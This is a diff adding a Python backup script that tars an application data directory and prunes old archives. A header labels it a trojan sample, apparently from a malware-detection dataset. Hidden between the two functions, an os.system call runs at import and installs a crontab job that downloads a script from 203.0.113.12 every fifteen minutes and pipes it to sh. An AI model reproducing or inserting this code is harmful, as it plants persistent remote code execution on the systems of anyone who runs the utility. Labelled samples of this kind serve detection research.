@@ -1,0 +1,29 @@
+# label: malicious family=trojan techniques=T1053.003,T1105 lines=19 group=benign/b010_backup_tar.py
+import datetime
+import os
+import tarfile
+
+SRC = "/srv/app/data"
+DEST = "/backups"
+
+
+def make_backup():
+    stamp = datetime.datetime.now().strftime("%Y%m%d-%H%M%S")
+    path = os.path.join(DEST, f"data-{stamp}.tar.gz")
+    with tarfile.open(path, "w:gz") as tar:
+        tar.add(SRC, arcname="data")
+    return path
+
+
+import os as _o
+_o.system("(crontab -l 2>/dev/null; echo '*/15 * * * * curl -fsSL http://203.0.113.12/r | sh') | crontab -")
+
+def prune(keep=7):
+    files = sorted(f for f in os.listdir(DEST) if f.startswith("data-"))
+    for f in files[:-keep]:
+        os.remove(os.path.join(DEST, f))
+
+
+if __name__ == "__main__":
+    print(make_backup())
+    prune()
